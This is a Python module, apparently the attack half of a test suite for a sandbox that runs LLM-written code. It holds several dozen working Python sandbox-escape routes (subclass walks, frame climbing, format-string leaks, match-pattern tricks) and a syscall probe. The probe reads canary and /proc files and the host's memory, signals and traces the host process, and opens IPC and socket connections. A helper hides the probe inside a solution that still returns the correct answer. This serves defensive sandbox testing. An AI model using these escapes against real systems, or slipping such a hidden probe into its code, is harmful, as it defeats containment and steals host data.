"""The attacking code of `code-sandbox`: routes out of the language layer, and one probe of every effect.

    source = program(route="attrgetter-type", effects=None)    # `def solve(ctx)`: route, then probe
    Sandbox(source).call(traps.ctx(marker))                     # -> what the probe got (the host judges it)

A *route* (ROUTES) is LLM-written code that tries to get from what the sandbox gives it (allowed
builtins, allowed modules, its own functions, frames, exceptions) to something real: the worker's
globals, the real builtins, `__import__`. What it reaches goes to the *probe* (PROBE), which tries
every effect the host can check: read the host's canary file, create files, connect to the host's
listeners, signal/trace/renice the host, read its memory, attach its SysV/POSIX IPC objects, watch
its directories, stat/readlink/uname/sysinfo/statfs. The probe never uses a dunder attribute, so a
route that reaches something runs it under the language layer too. KERNEL routes run with the
language layer off (`Sandbox(_language_layer=False)`): the attacker who already broke CPython from
inside, facing only the OS layers.

Syscall numbers are for x86-64 and aarch64 (the machines the worker filters for).
"""

from __future__ import annotations

from typing import Any

__all__ = ["KERNEL", "PROBE", "ROUTES", "program"]

PROBE = r'''
NR = {"x86_64": {"socket": 41, "connect": 42, "sendto": 44, "shmget": 29, "shmat": 30, "msgget": 68,
                 "msgsnd": 69, "mq_open": 240, "mq_timedsend": 242, "inotify_init1": 294,
                 "inotify_add_watch": 254, "sysinfo": 99, "ptrace": 101, "openat": 257, "kill": 62,
                 "setpriority": 141, "newfstatat": 262, "readlinkat": 267, "process_vm_readv": 310,
                 "uname": 63, "clone": 56},
      "aarch64": {"socket": 198, "connect": 203, "sendto": 206, "shmget": 194, "shmat": 196, "msgget": 186,
                  "msgsnd": 189, "mq_open": 180, "mq_timedsend": 182, "inotify_init1": 26,
                  "inotify_add_watch": 27, "sysinfo": 179, "ptrace": 117, "openat": 56, "kill": 129,
                  "setpriority": 140, "newfstatat": 79, "readlinkat": 78, "process_vm_readv": 270,
                  "uname": 160, "clone": 220}}


def _probe(reach, ctx, effects=None):
    rep = {"reached": sorted(k for k, v in reach.items() if v is not None), "errors": {}, "read": {}}

    def err(key, e):
        rep["errors"][key] = type(e).__name__ + ": " + str(e)[:160]

    def want(name):
        return effects is None or name in effects

    imp = reach.get("imp")
    mods = {}
    for name in ("posix", "gc", "_io"):
        try:
            mods[name] = reach[name] if name in reach else imp(name)
        except Exception as e:
            err("import " + name, e)
    posix = mods.get("posix")
    ct = reach.get("ctypes")
    if ct is None and imp is not None:
        try:
            ct = imp("ctypes")
        except Exception as e:
            err("import ctypes", e)
    if ct is None and "gc" in mods:
        for o in mods["gc"].get_objects():
            if isinstance(o, dict) and o.get("__name__") == "ctypes" and "CDLL" in o:
                try:
                    ct = type("ctypes", (), {k: v for k, v in o.items() if not k.startswith("__")})
                    rep["found"] = "ctypes via gc"
                except Exception as e:
                    err("ctypes via gc", e)
                break
    sc = None
    arch = None
    if ct is not None:
        try:
            libc = ct.CDLL(None, use_errno=True)
            sc = libc.syscall
            sc.restype = ct.c_long
            arch = posix.uname().machine if posix is not None else "x86_64"
        except Exception as e:
            err("libc", e)
    nr = NR.get(arch or "x86_64", NR["x86_64"])
    real_open = (reach.get("builtins") or {}).get("open")
    rep["have"] = sorted(k for k, v in {"posix": posix, "ctypes": ct, "open": real_open, "syscall": sc}.items() if v)

    def call(name, *args):
        r = sc(nr[name], *args)
        if r < 0:
            raise OSError(ct.get_errno(), name + " failed: errno " + str(ct.get_errno()))
        return r

    def b(s):
        return ct.c_char_p(s.encode())

    # -- file: read canaries and host files, create and change files --------------------------------
    if want("file"):
        for path in (ctx["secret_file"], "/etc/hostname", "/proc/1/environ", "/proc/self/mountinfo"):
            for how in ("open", "posix", "fileio", "syscall"):
                try:
                    if how == "open" and real_open is not None:
                        with real_open(path, "rb") as fh:
                            data = fh.read(400)
                    elif how == "posix" and posix is not None:
                        fd = posix.open(path, 0)
                        data = posix.read(fd, 400)
                    elif how == "fileio" and "_io" in mods:
                        data = mods["_io"].FileIO(path, "r").read(400)
                    elif how == "syscall" and sc is not None:
                        fd = call("openat", -100, b(path), 0, 0)
                        data = posix.read(fd, 400) if posix is not None else b""
                    else:
                        continue
                    rep["read"][path] = data.decode("utf-8", "replace")
                    break
                except Exception as e:
                    err("read " + how + " " + path, e)
        for i, path in enumerate(ctx["make"]):
            try:
                if i == 0 and real_open is not None:
                    with real_open(path, "w") as fh:
                        fh.write(ctx["marker"])
                elif posix is not None:
                    posix.close(posix.open(path, 0o101, 0o644))
                elif sc is not None:
                    call("openat", -100, b(path), 0o101, 0o644)
            except Exception as e:
                err("create " + path, e)
        for how in ("mkdir", "symlink"):
            try:
                if posix is not None:
                    if how == "mkdir":
                        posix.mkdir(ctx["dir"] + "/made-dir")
                    else:
                        posix.symlink("/", ctx["dir"] + "/made-link")
            except Exception as e:
                err(how, e)
        try:
            if posix is not None:
                fd = posix.open(ctx["target"], 0o2001)
                posix.write(fd, b"changed")
        except Exception as e:
            err("append", e)

    # -- metadata: stat, readlink, getdents, uname, sysinfo, statfs ------------------------------
    if want("metadata"):
        rep["stat"] = {}
        for path in ctx["host_only"]:
            try:
                if posix is not None:
                    st = posix.stat(path)
                    rep["stat"][path] = [st.st_ino, st.st_dev]
                elif sc is not None:
                    buf = ct.create_string_buffer(256)
                    call("newfstatat", -100, b(path), buf, 0)
                    raw = buf.raw
                    rep["stat"][path] = [int.from_bytes(raw[8:16], "little"), int.from_bytes(raw[0:8], "little")]
            except Exception as e:
                err("stat " + path, e)
        rep["readlink"] = {}
        for path in ("/proc/%d/cwd" % ctx["host_pid"], "/proc/%d/exe" % ctx["host_pid"]):
            try:
                if posix is not None:
                    rep["readlink"][path] = posix.readlink(path)
                elif sc is not None:
                    buf = ct.create_string_buffer(4096)
                    n = call("readlinkat", -100, b(path), buf, 4096)
                    rep["readlink"][path] = buf.raw[:n].decode()
            except Exception as e:
                err("readlink " + path, e)
        try:
            if posix is not None:
                rep["listdir"] = posix.listdir(ctx["dir"])
        except Exception as e:
            err("listdir", e)
        try:
            if posix is not None:
                u = posix.uname()
                rep["uname"] = [u.nodename, u.release]
            elif sc is not None:
                buf = ct.create_string_buffer(65 * 6)
                call("uname", buf)
                rep["uname"] = [buf.raw[65:130].split(b"\0")[0].decode(), ""]
        except Exception as e:
            err("uname", e)
        try:
            if sc is not None:
                buf = ct.create_string_buffer(256)
                call("sysinfo", buf)
                raw = buf.raw
                rep["sysinfo"] = {"uptime": int.from_bytes(raw[0:8], "little", signed=True),
                                  "totalram": int.from_bytes(raw[32:40], "little")}
        except Exception as e:
            err("sysinfo", e)
        try:
            if posix is not None:
                sv = posix.statvfs("/work")
                rep["statvfs"] = [sv.f_blocks, sv.f_files]
        except Exception as e:
            err("statvfs", e)

    # -- process: signal, fork, trace, renice, read the host's memory -----------------------------
    if want("process"):
        host = ctx["host_pid"]
        try:
            if posix is not None:
                posix.kill(host, 10)
            elif sc is not None:
                call("kill", host, 10)
        except Exception as e:
            err("kill", e)
        try:
            if posix is not None:
                pid = posix.fork()
                if pid == 0:
                    try:
                        posix.kill(host, 12)
                    finally:
                        posix._exit(0)
                rep["forked"] = pid
        except Exception as e:
            err("fork", e)
        try:
            if sc is not None:
                rep["ptrace"] = call("ptrace", 0x4206, host, 0, 0)
        except Exception as e:
            err("ptrace", e)
        try:
            if posix is not None:
                posix.setpriority(0, host, posix.getpriority(0, host) + 1)
            elif sc is not None:
                call("setpriority", 0, host, 7)
        except Exception as e:
            err("setpriority", e)
        try:
            if sc is not None:
                addr, size = ctx["mem"]
                local = ct.create_string_buffer(size)
                iov_l = (ct.c_void_p * 2)(ct.addressof(local), size)
                iov_r = (ct.c_void_p * 2)(addr, size)
                n = call("process_vm_readv", host, iov_l, 1, iov_r, 1, 0)
                rep["read"]["host memory"] = local.raw[:n].decode("utf-8", "replace")
        except Exception as e:
            err("process_vm_readv", e)

    # -- network: TCP, UDP, unix and abstract sockets to the host's listeners ---------------------
    if want("network") and sc is not None:
        port = ctx["tcp"]
        inet = bytes([2, 0, port >> 8, port & 255, 127, 0, 0, 1]) + bytes(8)
        for key, family, kind, addr in (
                ("tcp_socket", 2, 1, inet),
                ("unix_socket", 1, 1, bytes([1, 0]) + ctx["unix"].encode() + bytes(1)),
                ("abstract_socket", 1, 1, bytes([1, 0, 0]) + ctx["abstract"].encode())):
            try:
                fd = call("socket", family, kind, 0)
                call("connect", fd, addr, len(addr))
                rep[key] = "connected"
            except Exception as e:
                err(key, e)
        try:
            port = ctx["udp"]
            udp = bytes([2, 0, port >> 8, port & 255, 127, 0, 0, 1]) + bytes(8)
            fd = call("socket", 2, 2, 0)
            call("sendto", fd, b(ctx["marker"]), len(ctx["marker"]), 0, udp, len(udp))
            rep["udp_socket"] = "sent"
        except Exception as e:
            err("udp_socket", e)

    # -- IPC: the host's SysV segment and queue, its POSIX queue; inotify on its dirs -------------
    if want("ipc") and sc is not None:
        try:
            if ctx.get("shm_key") is not None:
                shmid = call("shmget", ctx["shm_key"], 0, 0)
                rep["shmid"] = shmid
                addr = call("shmat", shmid, 0, 0o10000)
                rep["read"]["shm"] = ct.string_at(addr, 40).decode("utf-8", "replace")
        except Exception as e:
            err("shm", e)
        try:
            if ctx.get("msg_key") is not None:
                msqid = call("msgget", ctx["msg_key"], 0)
                rep["msqid"] = msqid
                msg = ct.create_string_buffer(8 + 8)
                msg.raw = bytes([1]) + bytes(7) + b"crystal!"
                call("msgsnd", msqid, msg, 8, 0o4000)
        except Exception as e:
            err("msg", e)
        try:
            if ctx.get("mq") is not None:
                fd = call("mq_open", b(ctx["mq"].lstrip("/")), 1 | 0o4000, 0, 0)  # O_WRONLY | O_NONBLOCK
                rep["mq_fd"] = fd
                call("mq_timedsend", fd, b("x"), 1, 0, 0)
        except Exception as e:
            err("mq", e)
        try:
            fd = call("inotify_init1", 0)
            rep["inotify_wd"] = call("inotify_add_watch", fd, b(ctx["dir"]), 0xFFF)
        except Exception as e:
            err("inotify", e)
    return rep
'''

# Routes under the language layer: each defines `_reach()` -> what it got (a dict for the probe).
_FROM_GLOBALS = '''
import operator


def _from_globals(g):
    mod = g["builtins"]
    real_getattr = mod.getattr
    return {"imp": real_getattr(mod, "__import__"), "builtins": real_getattr(mod, "__dict__")}


def _from_builtins(d):
    return {"imp": d["__import__"], "builtins": d}


def _up(frame):
    at = type(operator.attrgetter("x"))
    while frame is not None:
        g = at("f_globals")(frame)
        if "builtins" in g and "posix" in g:
            return _from_globals(g)
        frame = at("f_back")(frame)
    return {}
'''

ROUTES: dict[str, tuple[str, str]] = {
    # name: (note, source defining _reach())
    "subclasses": ("().__class__.__base__.__subclasses__() in the source", '''
def _reach():
    for c in ().__class__.__base__.__subclasses__():
        if c.__name__ == "catch_warnings":
            return _from_builtins(c()._module.__builtins__)
    return {}
'''),
    "getattr-dunder": ("getattr() with dunder strings", '''
def _reach():
    base = getattr(getattr((), "__class__"), "__base__")
    return {"subclasses": getattr(base, "__subclasses__")()}
'''),
    "attrgetter-type": ("type(operator.attrgetter('x')) is the unwrapped class: __globals__ of a worker function", '''
import operator
def _reach():
    getter = type(operator.attrgetter("x"))("__globals__")
    return _from_globals(getter(operator.attrgetter))
'''),
    "methodcaller-type": ("type(operator.methodcaller('x')) calling __getattribute__", '''
import operator
def _reach():
    mc = type(operator.methodcaller("x"))("__getattribute__", "__globals__")
    return _from_globals(mc(operator.attrgetter))
'''),
    "partial-attrgetter": ("functools.partial over the unwrapped attrgetter class", '''
import functools, operator
def _reach():
    make = functools.partial(type(operator.attrgetter("x")), "__globals__")
    return _from_globals(make()(print))
'''),
    "reduce-ex": ("object.__reduce_ex__ through methodcaller -> copyreg's globals -> __builtins__", '''
import operator
def _reach():
    red = type(operator.methodcaller("x"))("__reduce_ex__", 2)(object())
    g = type(operator.attrgetter("x"))("__globals__")(red[0])
    b = g["__builtins__"]
    return _from_builtins(b if isinstance(b, dict) else type(operator.attrgetter("x"))("__dict__")(b))
'''),
    "str-format": ("str.format attribute walk '{0.__globals__[os]}' (a string, not an object)", '''
import operator
def _reach():
    return {"leak": "{0.__globals__[os]} {0.__globals__[__builtins__]}".format(print)[:200]}
'''),
    "str-format-json": ("'{0.__globals__[__builtins__][open]}'.format(json.dumps)", '''
import json
def _reach():
    return {"leak": "{0.__globals__[__builtins__][open]}".format(json.dumps)[:200]}
'''),
    "string-formatter": ("string.Formatter().get_field (getattr by string)", '''
import string
def _reach():
    obj, _ = string.Formatter().get_field("0.__globals__", [print], {})
    return _from_globals(obj)
'''),
    "traceback-frame": ("an exception's traceback -> tb_frame.f_back.f_globals", '''
import operator
def _reach():
    try:
        1 / 0
    except ZeroDivisionError as e:
        return _up(type(operator.attrgetter("x"))("__traceback__.tb_frame")(e))
'''),
    "traceback-direct": ("e.__traceback__.tb_frame in the source", '''
def _reach():
    try:
        1 / 0
    except ZeroDivisionError as e:
        return _from_globals(e.__traceback__.tb_frame.f_back.f_globals)
'''),
    "generator-frame": ("a running generator's gi_frame.f_back", '''
import operator
def _gen(box):
    yield _up(type(operator.attrgetter("x"))("gi_frame")(box[0]))
def _reach():
    box = []
    gen = _gen(box)
    box.append(gen)
    return next(gen)
'''),
    "generator-direct": ("gen.gi_frame.f_back in the source", '''
def _reach():
    gen = (i for i in [1])
    return {"f": str(gen.gi_frame.f_back)}
'''),
    "coroutine-frame": ("a coroutine's cr_frame.f_back", '''
import operator
async def _co(box):
    return _up(type(operator.attrgetter("x"))("cr_frame")(box[0]))
def _reach():
    box = []
    co = _co(box)
    box.append(co)
    try:
        co.send(None)
    except StopIteration as stop:
        return stop.value
'''),
    "sys-getframe": ("sys._getframe(1).f_globals, once sys is reached", '''
import operator
def _reach():
    g = type(operator.attrgetter("x"))("__globals__")(print)
    return _up(g["sys"]._getframe(0))
'''),
    "code-object": ("a function rebuilt from a __code__ with empty globals (builtins from where?)", '''
import operator
def _reach():
    code = type(operator.attrgetter("x"))("__code__")(lambda: open)
    f = type(_reach)(code, {})
    return {"builtins": {"open": f()}}
'''),
    "code-direct": ("f.__code__.co_consts in the source", '''
def _reach():
    return {"consts": str(_reach.__code__.co_consts)}
'''),
    "function-globals": ("solve.__globals__['__builtins__'] (the sandbox's own builtins)", '''
import operator
def _reach():
    b = type(operator.attrgetter("x"))("__globals__")(_reach)["__builtins__"]
    return {"imp": b.get("__import__"), "builtins": b} if "open" in b else {"own_builtins": sorted(b)[:3]}
'''),
    "gc-import": ("import gc", '''
import gc
def _reach():
    return {"gc": gc}
'''),
    "ctypes-import": ("import ctypes", '''
import ctypes
def _reach():
    return {"ctypes": ctypes}
'''),
    "dunder-import": ("__import__('posix') in the source", '''
def _reach():
    return {"posix": __import__("posix")}
'''),
    "importlib": ("import importlib / from importlib import import_module", '''
from importlib import import_module
def _reach():
    return {"posix": import_module("posix")}
'''),
    "submodule-import": ("import re._compiler, from json import decoder (private submodules)", '''
import json.decoder
from re import _compiler
def _reach():
    return {"sre": _compiler._sre}
'''),
    "proxy-private": ("private names on an allowed module's proxy (statistics.sys, calendar.sys)", '''
import statistics, calendar
def _reach():
    return {"sys": getattr(statistics, "sys", None) or getattr(calendar, "sys", None)}
'''),
    "eval-attrgetter": ("eval() of the attrgetter trick, as a string", '''
import operator
def _reach():
    g = eval("type(operator.attrgetter('x'))('__globals__')(operator.attrgetter)", {"operator": operator})
    return _from_globals(g)
'''),
    "exec-dict-subclass": ("exec() with a dict subclass whose __setitem__ drops the restricted __builtins__", '''
class _G(dict):
    def __setitem__(self, k, v):
        pass
def _reach():
    g = _G()
    out = []
    dict.__setitem__(g, "out", out)
    exec("out.append(globals()['__builtins__'])", g)
    b = out[0]
    return _from_builtins(b) if isinstance(b, dict) and "open" in b else {}
'''),
    "exec-dunder": ("exec('().__class__.__base__') in the sandbox", '''
def _reach():
    out = []
    exec("out.append(().__class__.__base__.__subclasses__())", {"out": out})
    return {"subclasses": out}
'''),
    "match-instancecheck": ("match with a class pattern whose metaclass __instancecheck__ is always True and "
                            "__match_args__ names __globals__", '''
import operator
class _M(type):
    def __instancecheck__(cls, x):
        return True
_C = _M("_C", (), {"__match_args__": ("__globals__",)})
def _reach():
    match operator.attrgetter:
        case _C(g):
            return _from_globals(g)
    return {}
'''),
    "match-keyword": ("match obj: case object(__globals__=g)", '''
def _reach():
    match print:
        case object(__globals__=g):
            return _from_globals(g)
    return {}
'''),
    "getattribute-override": ("a class overriding __getattribute__ that calls object.__getattribute__", '''
class _A:
    def __getattribute__(self, name):
        return object.__getattribute__(print, name)
def _reach():
    return _from_globals(_A().__globals__)
'''),
    "init-subclass": ("__init_subclass__ / __set_name__ hooks reaching type internals", '''
class _Base:
    def __init_subclass__(cls, **kw):
        cls.found = type.__subclasses__(object)
def _reach():
    class _Sub(_Base):
        pass
    return {"subclasses": _Sub.found}
'''),
    "unicode-identifier": ("NFKC-normalised identifiers: print.\uFF3F\uFF3Fglobals\uFF3F\uFF3F", '''
def _reach():
    return _from_globals(print.\uFF3F\uFF3Fglobals\uFF3F\uFF3F)
'''),
    "wraps-assigned": ("functools.update_wrapper(assigned=('__globals__',)) copying attributes by name", '''
import functools
def _reach():
    class _W:
        pass
    w = _W()
    functools.update_wrapper(w, print, assigned=("__globals__",), updated=())
    return _from_globals(vars(w)["__globals__"])
'''),
    "attrgetter-dotted": ("operator.attrgetter('a.__globals__') through the wrapper", '''
import operator
def _reach():
    return _from_globals(operator.attrgetter("__globals__")(print))
'''),
    "builtins-names": ("open/compile/globals/vars/breakpoint straight from the builtins", '''
def _reach():
    return {"builtins": {"open": open}, "globals": sorted(globals())}
'''),
}

# The OS layers alone (language layer off): the attacker already has the real builtins.
KERNEL_REACH = '''
def _reach():
    return {"imp": __import__, "builtins": {"open": open}}
'''
KERNEL = ("file", "network", "process", "ipc", "metadata")


def program(route: str | None, effects: list[str] | None = None, *, ctx: dict[str, Any] | None = None,
            answer: str | None = None, entry: str = "solve(x)") -> str:
    """The attacking module: a route (None: the kernel-layer reach) + the probe, as `solve(ctx)`.

    With `ctx` given the context is baked in and `solve(x)` returns `answer` (a program that
    must still verify through a learner: the host then judges only what it can see)."""
    reach = KERNEL_REACH if route is None else ROUTES[route][1]
    head = PROBE + ("" if route is None else _FROM_GLOBALS) + reach
    if ctx is None:
        return head + f'''

def solve(ctx):
    return _probe(_reach(), ctx, {effects!r})
'''
    return head + f'''

CTX = {ctx!r}


_ONCE = []


def {entry}:
    if not _ONCE:
        _ONCE.append(1)
        try:
            _probe(_reach(), CTX)
        except Exception:
            pass
    return {answer}
'''
